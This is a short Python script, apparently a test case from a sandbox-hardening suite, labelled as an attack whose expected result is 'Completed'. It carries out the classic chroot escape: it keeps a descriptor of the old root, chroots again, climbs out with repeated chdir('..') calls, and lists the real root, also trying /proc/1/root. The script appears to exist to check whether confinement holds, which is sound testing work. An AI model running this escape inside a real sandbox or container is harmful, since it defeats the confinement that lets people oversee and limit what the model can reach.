# attack: Breaks out of its root folder by the classic way: a second chroot, a kept descriptor of the old root, and climbing.
# expect: Completed

import os

broken = []
old = os.open("/", os.O_PATH | os.O_DIRECTORY)
os.mkdir("/work/jail")
for target in ("/work/jail", "/tmp", ".", "/", "/proc/1/root"):
    try:
        os.chroot(target)
        broken.append(f"chroot to {target}")
        os.fchdir(old)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        broken.append(f"and out of it: {sorted(os.listdir('/'))[:8]}")
        break
    except OSError:
        pass
print("\n".join("BROKEN: " + b for b in broken) or "held")
